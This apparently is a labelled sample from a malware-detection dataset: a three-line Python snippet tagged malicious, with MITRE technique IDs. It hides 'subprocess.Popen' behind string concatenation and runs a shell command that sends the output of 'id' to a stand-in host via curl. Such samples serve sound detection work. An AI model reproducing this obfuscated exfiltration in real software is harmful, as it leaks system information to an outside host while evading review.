# label: malicious family=obfuscation techniques=T1027,T1033,T1041,T1059.004 lines=2-4
m = "{}{}".format("subpro", "cess")
p = __import__(m)
getattr(p, "%s%s" % ("Po", "pen"))(["sh", "-c", "id | curl -s -d @- http://198.51.100.147/i"])
